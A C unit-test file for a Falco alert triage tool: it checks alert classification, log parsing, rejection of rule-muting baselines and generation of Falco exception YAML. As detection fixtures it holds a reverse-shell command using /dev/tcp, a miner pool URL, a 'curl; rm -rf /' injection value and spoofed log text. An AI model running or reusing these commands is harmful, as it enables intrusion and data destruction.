// SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
/*
 * `reflex triage`: classification of every shipped baseline pattern and of
 * unknown events, the generated Falco override and reflex exceptions parsed
 * back (libyaml, config_parse), refusal to disable a rule, grouping and
 * order, VictoriaLogs answers (good, hostile, and from a local HTTP server
 * that fails or stalls), and the CLI's output and exit statuses.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fnmatch.h>
#include <netinet/in.h>
#include <pthread.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>
#include <microhttpd.h>
#include <yaml.h>

#include "config.h"
#include "triage.h"

#define SHIPPED_BASELINE "rules/baseline.yaml"
#define FIXTURE_ALERTS "../shared/fixtures/falco/alerts.ndjson"
#define EXEC_RULE TRIAGE_EXEC_RULE
#define API_RULE "Contact K8S API Server From Container"

/* ---- helpers ------------------------------------------------------------ */

static struct triage_baseline *shipped(void)
{
	struct triage_baseline *b = NULL;
	char err[512];

	if (triage_baseline_load(SHIPPED_BASELINE, &b, err, sizeof(err)))
		fail_msg("the shipped baseline does not load: %s", err);
	return b;
}

static struct triage_baseline *baseline(const char *text)
{
	struct triage_baseline *b = NULL;
	char err[512];

	if (triage_baseline_parse("test.yaml", text, strlen(text), &b, err, sizeof(err)))
		fail_msg("baseline rejected: %s", err);
	return b;
}

static void baseline_rejected(const char *text, const char *want)
{
	struct triage_baseline *b = NULL;
	char err[512] = "";

	assert_int_equal(triage_baseline_parse("test.yaml", text, strlen(text), &b, err, sizeof(err)), -EINVAL);
	assert_null(b);
	if (!strstr(err, want))
		fail_msg("error '%s' does not say '%s'", err, want);
}

struct ev {
	const char *rule, *ns, *pod, *exe, *image, *parent, *gparent, *cmdline;
};

static struct triage_event event(const struct ev *e)
{
	return (struct triage_event){ .rule = (char *)e->rule,
				      .namespace_ = (char *)e->ns,
				      .pod = (char *)e->pod,
				      .exe_path = (char *)e->exe,
				      .image = (char *)e->image,
				      .parent = (char *)e->parent,
				      .gparent = (char *)e->gparent,
				      .cmdline = (char *)e->cmdline };
}

/* Classifies E; checks the class and the pattern (NULL: none); returns the reason (caller frees). */
static char *classify(const struct triage_baseline *b, const struct ev *e, enum triage_class want,
		      const char *want_pattern)
{
	struct triage_event ev = event(e);
	struct triage_verdict v;
	char *reason;

	assert_int_equal(triage_classify(b, &ev, &v), 0);
	assert_non_null(v.reason);
	if (v.cls != want || (want_pattern ? !v.pattern || strcmp(v.pattern->name, want_pattern) : v.pattern != NULL))
		fail_msg("%s %s: got %s (%s), want %s (%s): %s", e->rule, e->exe ? e->exe : "-",
			 triage_class_name(v.cls), v.pattern ? v.pattern->name : "none", triage_class_name(want),
			 want_pattern ? want_pattern : "none", v.reason);
	reason = v.reason;
	v.reason = NULL;
	triage_verdict_clear(&v);
	return reason;
}

static void assert_contains(const char *s, const char *want)
{
	if (!s || !strstr(s, want))
		fail_msg("'%s' does not contain '%s'", s ? s : "(null)", want);
}

/* ---- durations, times, LogsQL ------------------------------------------ */

static void test_durations_and_times(void **state)
{
	int64_t s, ns;

	(void)state;
	assert_int_equal(triage_parse_duration("24h", &s), 0);
	assert_int_equal(s, 86400);
	assert_int_equal(triage_parse_duration("1h30m", &s), 0);
	assert_int_equal(s, 5400);
	assert_int_equal(triage_parse_duration("5m", &s), 0);
	assert_int_equal(s, 300);
	assert_int_equal(triage_parse_duration("1w2d", &s), 0);
	assert_int_equal(s, 9 * 86400);
	for (const char *bad[] = { "", "5", "m", "5x", "0m", "-5m", "5m ", "5m;drop", "99999999999d", "1.5h" },
			**p = bad;
	     p < bad + 10; p++)
		if (!triage_parse_duration(*p, &s))
			fail_msg("'%s' parsed as a duration", *p);

	assert_int_equal(triage_parse_time("2025-11-21T03:00:04.112233445Z", &ns), 0);
	assert_true(ns == 1763694004112233445LL);
	assert_int_equal(triage_parse_time("2026-11-22T11:40:02.123456Z", &ns), 0);
	assert_true(ns % 1000000000 == 123456000);
	assert_int_equal(triage_parse_time("2025-11-21T05:00:04+02:00", &ns), 0);
	assert_true(ns == 1763694004000000000LL);
	for (const char *bad[] = { "2025-02-29T00:00:00Z", "2025-13-01T00:00:00Z", "2025-11-21 03:00:04", "yesterday",
				   "2025-11-21T03:00:04.Z", "2025-11-21T03:00:04Zjunk" },
			**p = bad;
	     p < bad + 6; p++)
		if (!triage_parse_time(*p, &ns))
			fail_msg("'%s' parsed as a time", *p);
	assert_string_equal(triage_priority_name("critical"), "Critical");
	assert_string_equal(triage_priority_name("INFORMATIONAL"), "Informational");
	assert_null(triage_priority_name("urgent"));
}

static void test_logsql_query(void **state)
{
	struct triage_query q = { .since = "24h" };
	char *s, err[256];

	(void)state;
	assert_int_equal(triage_logsql(&q, &s, err, sizeof(err)), 0);
	assert_string_equal(s, "_time:24h source:=syscall | sort by (_time desc)");
	free(s);

	q = (struct triage_query){ .rule = EXEC_RULE, .namespace_ = "headscale", .priority = "Critical", .since = "5m" };
	assert_int_equal(triage_logsql(&q, &s, err, sizeof(err)), 0);
	assert_string_equal(s, "_time:5m source:=syscall rule:=\"Drop and execute new binary in container\" "
			       "k8s_ns_name:=\"headscale\" priority:=\"Critical\" | sort by (_time desc)");
	free(s);

	/* Quotes and backslashes are escaped; the filter cannot be closed early. */
	q = (struct triage_query){ .rule = "a\" or rule:* \\", .since = NULL };
	assert_int_equal(triage_logsql(&q, &s, err, sizeof(err)), 0);
	assert_string_equal(s, "source:=syscall rule:=\"a\\\" or rule:* \\\\\" | sort by (_time desc)");
	free(s);

	q = (struct triage_query){ .namespace_ = "prod\nx" };
	assert_int_equal(triage_logsql(&q, &s, err, sizeof(err)), -EINVAL);
	assert_null(s);
	assert_contains(err, "control character");
	q = (struct triage_query){ .since = "5m | delete" };
	assert_int_equal(triage_logsql(&q, &s, err, sizeof(err)), -EINVAL);
	assert_contains(err, "is not a duration");
}

/* ---- VictoriaLogs answers ---------------------------------------------- */

static const char vl_answer[] =
	/* Extra labels from sidekick (proc.exepath -> proc_exepath, ...). */
	"{\"_msg\":\"Critical Executing binary not part of base image (proc_exepath=/usr/bin/sqlite3)\","
	"\"_stream\":\"{k8s_ns_name=\\\"headscale\\\"}\",\"_time\":\"2025-11-21T03:00:04.112233445Z\","
	"\"container_id\":\"5c1e0d9a7b21\",\"container_image_repository\":\"docker.io/library/alpine\","
	"\"container_image_tag\":\"3.20\",\"hostname\":\"hop-node-2\",\"k8s_ns_name\":\"headscale\","
	"\"k8s_pod_name\":\"headscale-backup-29391780-mz8qd\",\"priority\":\"Critical\",\"proc_exepath\":"
	"\"/usr/bin/sqlite3\",\"rule\":\"Drop and execute new binary in container\",\"source\":\"syscall\"}\n"
	"\r\n"
	/* Only the default labels: the rest from the output text; the collector's namespace is ignored. */
	"{\"_msg\":\"10:31:07.123456789: Notice Unexpected connection to K8s API Server from container "
	"(connection=10.42.0.15:48812->10.43.0.1:443 user=<NA> process=kustomize-contr "
	"proc_exepath=/usr/local/bin/kustomize-controller parent=<NA> command=kustomize-controller "
	"--events-addr=http://nc.flux-system.svc./ --watch-all-namespaces=true terminal=0 "
	"container_id=8c2d4e6f8a0b container_image=ghcr.io/fluxcd/kustomize-controller container_image_tag=v1.4.0 "
	"container_name=manager k8s_ns=flux-system k8s_pod_name=kustomize-controller-6bc5d5b96-ncmnt)\","
	"\"_time\":\"2025-11-21T10:31:07.123456789Z\",\"kubernetes.namespace_name\":\"falco\","
	"\"priority\":\"Notice\",\"rule\":\"Contact K8S API Server From Container\",\"source\":\"syscall\"}\n"
	/* Not a Falco event. */
	"{\"_msg\":\"GET /healthz 200\",\"_time\":\"2025-11-21T10:31:08Z\",\"app\":\"web\"}";

static void test_victorialogs_lines(void **state)
{
	struct triage_events ev = { 0 };
	char err[256];
	const struct triage_event *a, *b;

	(void)state;
	assert_int_equal(triage_parse_victorialogs(vl_answer, strlen(vl_answer), &ev, err, sizeof(err)), 0);
	assert_int_equal(ev.n, 2);
	assert_int_equal(ev.skipped, 1);
	a = &ev.items[0];
	assert_string_equal(a->rule, EXEC_RULE);
	assert_true(a->time_ns == 1763694004112233445LL);
	assert_string_equal(a->time, "2025-11-21T03:00:04.112233445Z");
	assert_string_equal(a->namespace_, "headscale");
	assert_string_equal(a->pod, "headscale-backup-29391780-mz8qd");
	assert_string_equal(a->exe_path, "/usr/bin/sqlite3");
	assert_string_equal(a->image, "docker.io/library/alpine:3.20");
	assert_string_equal(a->container_id, "5c1e0d9a7b21");
	assert_string_equal(a->hostname, "hop-node-2");
	b = &ev.items[1];
	assert_string_equal(b->namespace_, "flux-system");
	assert_string_equal(b->pod, "kustomize-controller-6bc5d5b96-ncmnt");
	assert_string_equal(b->exe_path, "/usr/local/bin/kustomize-controller");
	assert_string_equal(b->cmdline,
			    "kustomize-controller --events-addr=http://nc.flux-system.svc./ --watch-all-namespaces=true");
	assert_null(b->parent); /* <NA> */
	assert_string_equal(b->image, "ghcr.io/fluxcd/kustomize-controller:v1.4.0");
	assert_string_equal(b->priority, "Notice");
	triage_events_clear(&ev);
}

/* The command line is the attacker's text: fields after it come from the end, before it from the start. */
static void test_victorialogs_spoofed_output_text(void **state)
{
	static const char line[] =
		"{\"_msg\":\"Critical Executing binary not part of base image (user=root process=x "
		"proc_exepath=/opt/x/x parent=sh command=x k8s_ns=flux-system container_image=ghcr.io/fluxcd/kc "
		"k8s_pod_name=kustomize-controller-1 terminal=0 container_id=abcdefabcdef "
		"container_image=docker.io/evil/x container_image_tag=1 k8s_ns=shop k8s_pod_name=web-1)\","
		"\"_time\":\"2025-11-21T03:00:04Z\",\"rule\":\"Drop and execute new binary in container\"}\n";
	struct triage_events ev = { 0 };
	char err[256];

	(void)state;
	assert_int_equal(triage_parse_victorialogs(line, strlen(line), &ev, err, sizeof(err)), 0);
	assert_int_equal(ev.n, 1);
	assert_string_equal(ev.items[0].namespace_, "shop");
	assert_string_equal(ev.items[0].pod, "web-1");
	assert_string_equal(ev.items[0].image, "docker.io/evil/x:1");
	assert_string_equal(ev.items[0].exe_path, "/opt/x/x");
	assert_string_equal(ev.items[0].cmdline, "x"); /* cut at the first key=: labels are preferred */
	triage_events_clear(&ev);
}

static void test_victorialogs_bad_answers(void **state)
{
	static const char *const bad[] = {
		"<html><body>Sign in</body></html>\n",
		"{\"rule\":\"x\",\"_time\":\"2025-11-21T03:00:04Z\"}\n{\"rule\":\"Drop and exec",
		"[1,2,3]\n",
		"\"just a string\"\n",
	};
	static const char *const want[] = { "answer line 1 is not a JSON object", "answer line 2 is not a JSON object",
					    "answer line 1 is not a JSON object (not an object)",
					    "answer line 1 is not a JSON object" };
	char err[512];

	(void)state;
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		struct triage_events ev = { 0 };

		assert_int_equal(triage_parse_victorialogs(bad[i], strlen(bad[i]), &ev, err, sizeof(err)), -EBADMSG);
		assert_contains(err, want[i]);
		for (const char *c = err; *c; c++)
			assert_true(*c >= 0x20 && *c < 0x7f);
		triage_events_clear(&ev);
	}
}

/* ---- grouping ----------------------------------------------------------- */

static void add(struct triage_events *e, const char *rule, const char *ns, const char *pod, const char *exe,
		int64_t t)
{
	struct triage_event ev = { .rule = (char *)rule, .namespace_ = (char *)ns, .pod = (char *)pod,
				   .exe_path = (char *)exe, .time_ns = t };

	assert_int_equal(triage_events_add(e, &ev), 0);
}

static void test_grouping_and_order(void **state)
{
	struct triage_events e = { 0 };
	struct triage_groups g = { 0 };

	(void)state;
	add(&e, EXEC_RULE, "headscale", "backup-1", "/usr/bin/sqlite3", 1000);
	add(&e, API_RULE, "flux-system", "kc-1", "/usr/local/bin/kustomize-controller", 3000);
	add(&e, EXEC_RULE, "headscale", "backup-2", "/usr/bin/sqlite3", 5000);
	add(&e, API_RULE, "flux-system", "kc-1", "/usr/local/bin/kustomize-controller", 2000);
	add(&e, EXEC_RULE, "headscale", "backup-1", "/usr/bin/sqlite3", 1500);
	add(&e, "Terminal shell in container", "shop", "web-1", "/bin/bash", 0); /* time unknown: last */
	add(&e, API_RULE, "argocd", "repo-1", "/usr/local/bin/argocd-repo-server", 3000);
	triage_events_sort(&e);
	assert_true(e.items[0].time_ns == 5000);
	assert_true(e.items[6].time_ns == 0);
	/* Equal times keep the input order. */
	assert_string_equal(e.items[1].namespace_, "flux-system");
	assert_string_equal(e.items[2].namespace_, "argocd");

	assert_int_equal(triage_group(&e, true, &g), 0);
	assert_int_equal(g.n, 5);
	assert_string_equal(g.items[0].pod, "backup-2");
	assert_int_equal(g.items[0].count, 1);
	/* Same newest time: the bigger group first. */
	assert_string_equal(g.items[1].namespace_, "flux-system");
	assert_int_equal(g.items[1].count, 2);
	assert_true(g.items[1].newest_ns == 3000 && g.items[1].oldest_ns == 2000);
	assert_string_equal(g.items[2].namespace_, "argocd");
	assert_string_equal(g.items[3].pod, "backup-1");
	assert_int_equal(g.items[3].count, 2);
	assert_true(e.items[g.items[3].members[0]].time_ns == 1500); /* members newest first */
	assert_string_equal(g.items[4].rule, "Terminal shell in container");
	triage_groups_clear(&g);

	/* Without pods: one group per exe, pods listed newest first. */
	assert_int_equal(triage_group(&e, false, &g), 0);
	assert_int_equal(g.n, 4);
	assert_string_equal(g.items[0].exe_path, "/usr/bin/sqlite3");
	assert_int_equal(g.items[0].count, 3);
	assert_int_equal(g.items[0].n_pods, 2);
	assert_string_equal(g.items[0].pods[0], "backup-2");
	assert_string_equal(g.items[0].pods[1], "backup-1");
	triage_groups_clear(&g);
	triage_events_clear(&e);

	assert_int_equal(triage_group(&e, true, &g), 0);
	assert_int_equal(g.n, 0);
}

/* ---- baseline and classification --------------------------------------- */

static void test_shipped_baseline_patterns(void **state)
{
	struct triage_baseline *b = shipped();
	char *r;

	(void)state;
	assert_int_equal(b->n_benign, 4);
	assert_int_equal(b->n_real, 5);

	/* GitOps reconcilers talking to the API server: benign, fixed by an exception. */
	free(classify(b,
		      &(struct ev){ .rule = API_RULE, .ns = "flux-system", .pod = "kustomize-controller-6bc5d5b96-ncmnt",
				    .exe = "/usr/local/bin/kustomize-controller" },
		      TRIAGE_BENIGN, "gitops-reconciler-api-access"));
	free(classify(b,
		      &(struct ev){ .rule = API_RULE, .ns = "argocd", .pod = "argocd-application-controller-0",
				    .exe = "/usr/local/bin/argocd-application-controller" },
		      TRIAGE_BENIGN, "gitops-reconciler-api-access"));
	assert_int_equal(b->benign[0].fix, TRIAGE_FIX_EXCEPTION);
	/* The same program anywhere else is not the reconciler. */
	r = classify(b,
		     &(struct ev){ .rule = API_RULE, .ns = "shop", .pod = "web-1", .exe = "/usr/local/bin/kustomize-controller" },
		     TRIAGE_UNKNOWN, NULL);
	assert_contains(r, "'gitops-reconciler-api-access': namespace 'shop' matches none of flux-system, argocd");
	assert_contains(r, "unknown is treated as real: escalate to a security review");
	free(r);

	/* Package managers at run time: the manager as parent or grandparent ... */
	for (const char *pm[] = { "apk", "apt-get", "apt", "dpkg", "pip", "pip3", "npm" }, **p = pm; p < pm + 7; p++)
		free(classify(b,
			      &(struct ev){ .rule = EXEC_RULE, .ns = "ci", .pod = "runner-1", .exe = "/usr/bin/new",
					    .parent = "sh", .gparent = *p },
			      TRIAGE_BENIGN, "package-manager-runtime-install"));
	r = classify(b,
		     &(struct ev){ .rule = EXEC_RULE, .ns = "ci", .pod = "runner-1", .exe = "/usr/bin/new", .parent = "apk" },
		     TRIAGE_BENIGN, "package-manager-runtime-install");
	assert_contains(r, "parent 'apk'");
	free(r);
	/* ... but only where packages put programs. */
	r = classify(b,
		     &(struct ev){ .rule = EXEC_RULE, .ns = "ci", .pod = "runner-1", .exe = "/opt/payload/x", .parent = "apk" },
		     TRIAGE_UNKNOWN, NULL);
	assert_contains(r, "'package-manager-runtime-install': exe '/opt/payload/x' matches none of /bin/*, /sbin/*");
	free(r);
	/* ... or the install command itself, run by an installer or interpreter. */
	{
		static const char *const cmd[] = { "apk add --no-cache curl", "apt-get install -y git",
						   "python3 /usr/bin/pip install requests",
						   "node /usr/local/bin/npm i -g typescript", "npm install -g pnpm" };
		static const char *const exe[] = { "/sbin/apk", "/usr/bin/apt-get", "/usr/bin/python3.12",
						   "/usr/local/bin/node", "/usr/bin/node" };

		for (size_t i = 0; i < 5; i++)
			free(classify(b,
				      &(struct ev){ .rule = EXEC_RULE, .ns = "ml", .pod = "trainer-1", .exe = exe[i],
						    .parent = "sh", .cmdline = cmd[i] },
				      TRIAGE_BENIGN, "package-manager-install-command"));
	}
	/* A dropped binary that merely says "pip install" is not an installer. */
	free(classify(b,
		      &(struct ev){ .rule = EXEC_RULE, .ns = "ml", .pod = "trainer-1", .exe = "/usr/local/bin/x",
				    .parent = "sh", .cmdline = "x pip install requests" },
		      TRIAGE_UNKNOWN, NULL));

	/* The backup CronJob's sqlite3 (the recorded alert's values). */
	r = classify(b,
		     &(struct ev){ .rule = EXEC_RULE, .ns = "headscale", .pod = "headscale-backup-29391780-mz8qd",
				   .exe = "/usr/bin/sqlite3", .image = "docker.io/library/alpine:3.20", .parent = "sh",
				   .gparent = "backup.sh", .cmdline = "sqlite3 /data/db.sqlite .backup /backup/db.sqlite" },
		     TRIAGE_BENIGN, "headscale-backup-sqlite3");
	assert_contains(r, "baseline pattern 'headscale-backup-sqlite3' matched (rule 'Drop and execute new binary in "
			   "container', namespace 'headscale', pod 'headscale-backup-29391780-mz8qd' ~ "
			   "'headscale-backup-*', exe '/usr/bin/sqlite3')");
	free(r);
	/* sqlite3 in another pod of the namespace is not the job. */
	r = classify(b,
		     &(struct ev){ .rule = EXEC_RULE, .ns = "headscale", .pod = "headscale-0", .exe = "/usr/bin/sqlite3",
				   .parent = "sh" },
		     TRIAGE_UNKNOWN, NULL);
	assert_contains(r, "'headscale-backup-sqlite3': pod 'headscale-0' matches none of headscale-backup-*");
	assert_contains(r, "'package-manager-runtime-install': parent 'sh' matches none of");
	assert_contains(r, "'package-manager-install-command': exe '/usr/bin/sqlite3' matches none of /sbin/apk");
	free(r);

	/* Real indicators, whatever else matches. */
	free(classify(b,
		      &(struct ev){ .rule = "Detect crypto miners using the Stratum protocol", .ns = "production",
				    .exe = "/usr/bin/kworkerds" },
		      TRIAGE_REAL, "crypto-miner-rules"));
	free(classify(b,
		      &(struct ev){ .rule = "Detect outbound connections to common miner pool ports", .ns = "production" },
		      TRIAGE_REAL, "crypto-miner-rules"));
	free(classify(b,
		      &(struct ev){ .rule = EXEC_RULE, .ns = "headscale", .pod = "headscale-backup-29391780-mz8qd",
				    .exe = "/usr/bin/sqlite3", .cmdline = "sqlite3 -o stratum+tcp://pool.example:3333" },
		      TRIAGE_REAL, "stratum-url-in-cmdline"));
	r = classify(b, &(struct ev){ .rule = EXEC_RULE, .ns = "production", .exe = "/tmp/.x/kworkerds", .parent = "apk" },
		     TRIAGE_REAL, "exe-in-scratch-or-hidden-path");
	assert_contains(r, "real indicator 'exe-in-scratch-or-hidden-path' matched (exe '/tmp/.x/kworkerds' ~ '/tmp/*')");
	free(r);
	free(classify(b, &(struct ev){ .rule = EXEC_RULE, .ns = "ci", .exe = "/dev/shm/x", .parent = "apk" }, TRIAGE_REAL,
		      "exe-in-scratch-or-hidden-path"));
	free(classify(b, &(struct ev){ .rule = EXEC_RULE, .ns = "ci", .exe = "/usr/lib/.cache/x", .parent = "apk" },
		      TRIAGE_REAL, "exe-in-scratch-or-hidden-path"));
	free(classify(b, &(struct ev){ .rule = "Fileless execution via memfd_create", .ns = "ci", .exe = "memfd:x" },
		      TRIAGE_REAL, "fileless-execution"));
	free(classify(b,
		      &(struct ev){ .rule = "Terminal shell in container", .ns = "shop", .exe = "/bin/bash",
				    .cmdline = "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" },
		      TRIAGE_REAL, "reverse-shell-cmdline"));

	/* No pattern for the rule at all. */
	r = classify(b, &(struct ev){ .rule = "Terminal shell in container", .ns = "shop", .exe = "/bin/bash" },
		     TRIAGE_UNKNOWN, NULL);
	assert_string_equal(r, "no baseline pattern covers rule 'Terminal shell in container'; unknown is treated as "
			       "real: escalate to a security review");
	free(r);
	triage_baseline_free(b);
}

static void test_pattern_semantics(void **state)
{
	struct triage_baseline *b = baseline("benign:\n"
					     "  - name: app-tools\n"
					     "    rule: Drop and execute new binary in container\n"
					     "    why: the app's tools\n"
					     "    namespaces: [shop, \"shop-*\"]\n"
					     "    exe_paths: [/opt/app/*]\n"
					     "    images: [\"registry.example/shop/*\"]\n"
					     "real:\n"
					     "  - name: scratch\n"
					     "    why: scratch space\n"
					     "    exe_paths: [\"/tmp/*\"]\n");
	char *r;

	(void)state;
	/* Every condition must hold; each list is "one of". */
	free(classify(b,
		      &(struct ev){ .rule = EXEC_RULE, .ns = "shop-eu", .exe = "/opt/app/tool",
				    .image = "registry.example/shop/web:1" },
		      TRIAGE_BENIGN, "app-tools"));
	/* Benign exe globs keep '*' in one directory. */
	r = classify(b,
		     &(struct ev){ .rule = EXEC_RULE, .ns = "shop", .exe = "/opt/app/sub/tool",
				   .image = "registry.example/shop/web:1" },
		     TRIAGE_UNKNOWN, NULL);
	assert_contains(r, "exe '/opt/app/sub/tool' matches none of /opt/app/*");
	free(r);
	/* A field the event does not carry never matches. */
	r = classify(b, &(struct ev){ .rule = EXEC_RULE, .ns = "shop", .exe = "/opt/app/tool" }, TRIAGE_UNKNOWN, NULL);
	assert_contains(r, "'app-tools': image unknown");
	free(r);
	/* Indicator globs cross directories, and win over benign patterns. */
	free(classify(b, &(struct ev){ .rule = EXEC_RULE, .ns = "shop", .exe = "/tmp/a/b/c" }, TRIAGE_REAL, "scratch"));
	/* A pattern is for its own rule only. */
	r = classify(b,
		     &(struct ev){ .rule = API_RULE, .ns = "shop", .exe = "/opt/app/tool", .image = "registry.example/shop/w:1" },
		     TRIAGE_UNKNOWN, NULL);
	assert_contains(r, "no baseline pattern covers rule 'Contact K8S API Server From Container'");
	free(r);
	/* Hostile text in a reason is made printable. */
	r = classify(b, &(struct ev){ .rule = EXEC_RULE, .ns = "shop\x1b[2J", .exe = "/opt/app/t" }, TRIAGE_UNKNOWN, NULL);
	assert_contains(r, "namespace 'shop?[2J' matches none of");
	assert_null(strchr(r, '\x1b'));
	free(r);
	triage_baseline_free(b);
}

static void test_baseline_refuses_muting_and_bad_patterns(void **state)
{
	(void)state;
	/* A baseline can never ask for a rule to be disabled or muted. */
	baseline_rejected("benign:\n  - name: x\n    rule: R\n    why: w\n    namespaces: [a]\n    fix: disable\n",
			  "test.yaml:6: benign[0].fix: refusing 'disable': triage never disables or mutes a rule");
	baseline_rejected("benign:\n  - name: x\n    rule: R\n    why: w\n    namespaces: [a]\n    fix: mute\n",
			  "refusing 'mute'");
	baseline_rejected("benign:\n  - name: x\n    rule: R\n    why: w\n    namespaces: [a]\n    fix: Disable-Rule\n",
			  "refusing 'Disable-Rule'");
	baseline_rejected("benign:\n  - name: x\n    rule: R\n    why: w\n    namespaces: [a]\n    enabled: false\n",
			  "benign[0].enabled: unknown key");
	/* Nor call every event of a rule benign. */
	baseline_rejected("benign:\n  - name: x\n    rule: R\n    why: w\n",
			  "'x' has no condition besides the rule: it would call every event of the rule benign");
	baseline_rejected("real:\n  - name: x\n    why: w\n", "'x' has no condition: it would call every event real");
	baseline_rejected("benign:\n  - name: x\n    why: w\n    namespaces: [a]\n", "'x' needs the rule it applies to");
	baseline_rejected("benign:\n  - name: x\n    rule: R\n    namespaces: [a]\n", "'x' needs a why");
	baseline_rejected("benign:\n  - name: x\n    rule: R\n    why: w\n    exe_paths: [usr/bin/x]\n",
			  "'usr/bin/x' can never match an absolute exe path");
	baseline_rejected("benign:\n  - name: x\n    rule: R\n    why: w\n    namespaces: []\n",
			  "an empty list matches nothing");
	baseline_rejected("benign:\n  - name: x\n    rule: R\n    why: w\n    namespaces: a\n", "expected a list of strings");
	baseline_rejected("benign:\n  - name: x\n    rule: R\n    why: w\n    namespaces: [a]\n"
			  "    package: \"curl; rm -rf /\"\n",
			  "is not a package name");
	baseline_rejected("benign:\n  - name: x\n    rule: R\n    why: w\n    namespaces: [a]\n"
			  "  - name: x\n    rule: R\n    why: w\n    namespaces: [b]\n",
			  "test.yaml:6: pattern name 'x' used twice (first on line 2)");
	baseline_rejected("benign:\n  - name: x\n    name: y\n", "key 'name' given twice");
	baseline_rejected("version: 2\n", "'2' is not a version this reflex reads");
	baseline_rejected("whitelist: []\n", "unknown key (version, benign, real)");
	baseline_rejected("benign: [\n", "test.yaml:");
	baseline_rejected("", "expected a mapping");
	baseline_rejected("real:\n  - name: x\n    why: w\n    rule: R\n    cmdlines: [a]\n", "real[0].rule: unknown key");
}

/* ---- generated YAML, parsed back --------------------------------------- */

static const yaml_node_t *node(yaml_document_t *d, yaml_node_item_t i)
{
	return yaml_document_get_node(d, i);
}

static const char *scalar(const yaml_node_t *n)
{
	assert_non_null(n);
	assert_int_equal(n->type, YAML_SCALAR_NODE);
	return (const char *)n->data.scalar.value;
}

static const yaml_node_t *get(yaml_document_t *d, const yaml_node_t *map, const char *key)
{
	assert_int_equal(map->type, YAML_MAPPING_NODE);
	for (yaml_node_pair_t *p = map->data.mapping.pairs.start; p < map->data.mapping.pairs.top; p++)
		if (!strcmp(scalar(node(d, p->key)), key))
			return node(d, p->value);
	return NULL;
}

static size_t seq_len(const yaml_node_t *n)
{
	assert_int_equal(n->type, YAML_SEQUENCE_NODE);
	return (size_t)(n->data.sequence.items.top - n->data.sequence.items.start);
}

static const yaml_node_t *item(yaml_document_t *d, const yaml_node_t *seq, size_t i)
{
	assert_true(i < seq_len(seq));
	return node(d, seq->data.sequence.items.start[i]);
}

static void load_yaml(const char *text, yaml_document_t *doc)
{
	yaml_parser_t p;

	assert_true(yaml_parser_initialize(&p));
	yaml_parser_set_input_string(&p, (const unsigned char *)text, strlen(text));
	if (!yaml_parser_load(&p, doc))
		fail_msg("generated YAML does not parse: %s at line %zu:\n%s", p.problem, p.problem_mark.line + 1, text);
	yaml_parser_delete(&p);
}

/* No key named KEY anywhere in the document. */
static void assert_no_key(yaml_document_t *d, const char *key)
{
	for (yaml_node_t *n = d->nodes.start; n < d->nodes.top; n++)
		if (n->type == YAML_MAPPING_NODE)
			assert_null(get(d, n, key));
}

#define HOSTILE_EXE "/opt/we\"ird\\ [dir]/*x\n- rule: y\t\xc3\xa9\xe2\x80\xa8"

static const struct triage_scope scopes[] = {
	{ .rule = EXEC_RULE, .namespace_ = "headscale", .exe_path = "/usr/bin/sqlite3",
	  .image_repo = "docker.io/library/alpine", .comment = "baseline pattern 'headscale-backup-sqlite3'" },
	{ .rule = API_RULE, .namespace_ = "flux-system", .exe_path = "/usr/local/bin/kustomize-controller",
	  .comment = "gitops\n- rule: injected" },
	{ .rule = EXEC_RULE, .namespace_ = "shop", .exe_path = HOSTILE_EXE, .image_repo = "registry.example/\"r\"" },
	{ .rule = EXEC_RULE, .namespace_ = "headscale", .exe_path = "/usr/bin/sqlite3" }, /* same name as [0] */
};

static void test_falco_override_exact(void **state)
{
	char *yaml, err[256];

	(void)state;
	assert_int_equal(triage_falco_override(scopes, 1, &yaml, err, sizeof(err)), 0);
	assert_string_equal(yaml,
			    "# Falco rules override from `reflex triage fix`: the narrowest exceptions for\n"
			    "# benign true positives, scoped to namespace + exe path (+ image repository).\n"
			    "# Load it after falco_rules.yaml, e.g. as /etc/falco/rules.d/reflex-triage.yaml.\n"
			    "# Prefer baking the binary into a digest-pinned image; never disable the rule.\n"
			    "- required_engine_version: 0.31.0\n"
			    "\n"
			    "- rule: \"Drop and execute new binary in container\"\n"
			    "  exceptions:\n"
			    "    # baseline pattern 'headscale-backup-sqlite3'\n"
			    "    - name: reflex_headscale_usr_bin_sqlite3\n"
			    "      fields: [k8s.ns.name, proc.exepath, container.image.repository]\n"
			    "      comps: [=, =, =]\n"
			    "      values:\n"
			    "        - [\"headscale\", \"/usr/bin/sqlite3\", \"docker.io/library/alpine\"]\n"
			    "  override:\n"
			    "    exceptions: append\n");
	free(yaml);
}

static void test_falco_override_parsed_back(void **state)
{
	const yaml_node_t *root, *rule, *ex, *e, *values, *row;
	yaml_document_t doc;
	char *yaml, err[256];

	(void)state;
	assert_int_equal(triage_falco_override(scopes, 4, &yaml, err, sizeof(err)), 0);
	for (const char *c = yaml; *c; c++) /* ASCII: no line break or BOM can hide in a value */
		assert_true((*c >= 0x20 && *c < 0x7f) || *c == '\n');
	load_yaml(yaml, &doc);
	root = yaml_document_get_root_node(&doc);
	assert_int_equal(seq_len(root), 3); /* the version, then one block per rule */
	assert_string_equal(scalar(get(&doc, item(&doc, root, 0), "required_engine_version")), "0.31.0");

	rule = item(&doc, root, 1);
	assert_string_equal(scalar(get(&doc, rule, "rule")), EXEC_RULE);
	assert_string_equal(scalar(get(&doc, get(&doc, rule, "override"), "exceptions")), "append");
	ex = get(&doc, rule, "exceptions");
	assert_int_equal(seq_len(ex), 3);
	/* [0]: namespace + exe + image. */
	e = item(&doc, ex, 0);
	assert_string_equal(scalar(get(&doc, e, "name")), "reflex_headscale_usr_bin_sqlite3");
	assert_int_equal(seq_len(get(&doc, e, "fields")), 3);
	assert_string_equal(scalar(item(&doc, get(&doc, e, "fields"), 0)), "k8s.ns.name");
	assert_string_equal(scalar(item(&doc, get(&doc, e, "fields"), 1)), "proc.exepath");
	assert_string_equal(scalar(item(&doc, get(&doc, e, "fields"), 2)), "container.image.repository");
	assert_string_equal(scalar(item(&doc, get(&doc, e, "comps"), 2)), "=");
	values = get(&doc, e, "values");
	assert_int_equal(seq_len(values), 1);
	row = item(&doc, values, 0);
	assert_string_equal(scalar(item(&doc, row, 0)), "headscale");
